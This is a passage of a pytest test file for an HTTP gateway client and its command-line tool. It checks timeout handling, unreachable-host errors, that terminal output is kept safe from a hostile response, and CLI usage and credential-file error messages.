        with pytest.raises(c.BadResponse) as info:
            small.call("slugify", "x" * 200)
        assert "an answer over 120 bytes" in info.value.message
        assert small.call("a")["target"] == "/rest/a/"  # the half-read connection was not reused


def test_an_answer_that_is_not_http_is_not_quoted(live: c.Client, fake: FakeGateway) -> None:
    """BadStatusLine's text is the line received: an on-path sender wrote to the terminal."""
    fake.mode = "not HTTP"
    with pytest.raises(c.Unreachable) as info:
        live.call("add")
    assert "\x1b" not in str(info.value) and "evil" not in str(info.value)
    assert "BadStatusLine: the answer is not HTTP" in info.value.message


def test_nothing_listening_is_unreachable(tmp_path: Path) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    with c.Client(write_cred(tmp_path / "acme.cred", url=f"http://127.0.0.1:{port}")) as cl:
        with pytest.raises(c.Unreachable) as info:
            cl.call("add")
    exc = info.value
    assert isinstance(exc, ConnectionError) and (exc.status, exc.code) == (0, "unreachable")
    assert exc.request_id is not None and len(exc.request_id) == 16  # the X-Request-Id it sent
    assert repr(pickle.loads(pickle.dumps(exc))) == repr(exc)


def test_async_client_runs_the_same_calls(fake: FakeGateway, tmp_path: Path) -> None:
    async def run() -> list[Any]:
        async with c.AsyncClient(write_cred(tmp_path / "acme.cred", url=fake.url), timeout=5) as gw:
            return list(await asyncio.gather(gw.call("power", 3), gw.request("add", {"a": 1}), gw.catalog()))

    power, add, catalog = asyncio.run(run())
    assert power["target"] == "/rest/power/3" and add["body"] == '{"a":1}' and catalog["method"] == "GET"


@pytest.fixture
def silent(monkeypatch: pytest.MonkeyPatch) -> list[float | None]:
    """Connections whose answer never comes (no real wait): each records its read timeout."""
    timeouts: list[float | None] = []

    class Silent:
        def __init__(self, host: str, port: int, timeout: float | None = None) -> None:
            timeouts.append(timeout)

        def request(self, *args: Any, **kwargs: Any) -> None:
            pass

        def getresponse(self) -> Any:
            raise TimeoutError("timed out")

        def close(self) -> None:
            pass

    monkeypatch.setattr(c.http.client, "HTTPConnection", Silent)
    return timeouts


def test_the_client_outwaits_the_gateways_default_call_timeout() -> None:
    assert c.GATEWAY_CALL_TIMEOUT == gateway_app.Settings.timeout
    assert c.DEFAULT_TIMEOUT == 40 > gateway_app.Settings.timeout


def test_no_answer_in_time_warns_that_the_call_may_have_run(cred_path: Path, silent: list[float | None]) -> None:
    with c.Client(cred_path) as cl, pytest.raises(c.Unreachable) as info:
        cl.call("nap", seconds=12)
    with pytest.raises(c.Unreachable):
        asyncio.run(c.AsyncClient(cred_path).call("nap", seconds=12))
    assert silent == [40, 40]  # both default to waiting past the gateway's 30 s
    assert str(info.value).endswith(
        ": no answer within 40 s; the call may still have run on the gateway, so check before retrying"
    )


# -- command line -----------------------------------------------------------------------------


def test_cli_help_exits_0() -> None:
    done = subprocess.run([sys.executable, str(ROOT / "client.py"), "--help"], capture_output=True, text=True)
    assert done.returncode == 0 and "--cred" in done.stdout


def test_cli_prints_results_as_json(fake: FakeGateway, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write_cred(tmp_path / "acme.cred", url=fake.url)
    assert c.main(["--cred", str(path), "power", "3", "--json", '{"x": 1}']) == 0
    assert json.loads(capsys.readouterr().out) == {"method": "POST", "target": "/rest/power/3", "body": '{"x":1}'}
    assert c.main(["--cred", str(path), "--catalog"]) == 0
    assert json.loads(capsys.readouterr().out)["target"] == "/rest/"


def test_cli_reports_a_gateway_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    path = write_cred(tmp_path / "acme.cred", url=f"http://127.0.0.1:{port}")
    assert c.main(["--cred", str(path), "add", "--json", '{"a": 1}']) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: unreachable: http://127.0.0.1:{port}: ")  # not "0 unreachable": no status
    no_secrets(err)


def test_cli_waits_past_the_gateways_call_timeout(
    cred_path: Path, silent: list[float | None], capsys: pytest.CaptureFixture[str]
) -> None:
    assert c.main(["--cred", str(cred_path), "nap", "--json", '{"seconds": 12}']) == 1
    assert c.main(["--cred", str(cred_path), "--timeout", "90", "nap", "--json", '{"seconds": 60}']) == 1
    assert silent == [40, 90]
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith("error: unreachable: ") and err[0].endswith(
        "no answer within 40 s; the call may still have run on the gateway, so check before retrying"
    )
    assert "no answer within 90 s; the call may still have run" in err[1]


def test_cli_reports_a_credential_file_it_cannot_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """It printed the OSError as is: "error: [Errno 2] No such file or directory: 'nosuch.json'"."""
    monkeypatch.chdir(tmp_path)
    assert c.main(["--cred", "nosuch.json", "add"]) == 2
    assert capsys.readouterr().err == "error: cannot read the credential file nosuch.json: No such file or directory\n"
    assert c.main(["--cred", str(tmp_path), "add"]) == 2  # a folder
    assert capsys.readouterr().err == f"error: cannot read the credential file {tmp_path}: Is a directory\n"
    (tmp_path / "bad.json").write_text("{}")
    assert c.main(["--cred", "bad.json", "add"]) == 2  # read, but not a credential: that error says so
    assert capsys.readouterr().err.startswith("error: bad.json is not an STT1 credential file: ")


@pytest.mark.parametrize("argv", [
    [], ["add", "--catalog"], ["add", "--json", "[1]"], ["add", "--json", "{"],
    ["add", "--timeout", "0"], ["add", "--timeout", "-1"], ["add", "--timeout", "nan"],  # 0 was "unreachable"
])
def test_cli_usage_errors_exit_2(cred_path: Path, argv: list[str]) -> None:
    with pytest.raises(SystemExit) as info:
        c.main(["--cred", str(cred_path), *argv])
    assert info.value.code == 2


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ('{"a": "\udcff"}', "--json: not valid UTF-8"),  # how Python passes a non-UTF-8 argv byte
        ("[" * 3000, "--json: nested too deeply"),
    ],
)
def test_cli_json_that_cannot_decode_is_a_usage_error(
    cred_path: Path, capsys: pytest.CaptureFixture[str], value: str, message: str
) -> None:
    with pytest.raises(SystemExit) as info:
        c.main(["--cred", str(cred_path), "add", "--json", value])
    assert info.value.code == 2
    assert capsys.readouterr().err.endswith(f"error: {message}\n")


def test_cli_non_utf8_json_argument_exits_2_without_a_traceback(cred_path: Path) -> None:
    argv = [sys.executable, str(ROOT / "client.py"), "--cred", str(cred_path), "add", "--json", b'{"a": "\xff"}']
    done = subprocess.run(argv, capture_output=True, text=True)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.endswith("error: --json: not valid UTF-8\n")
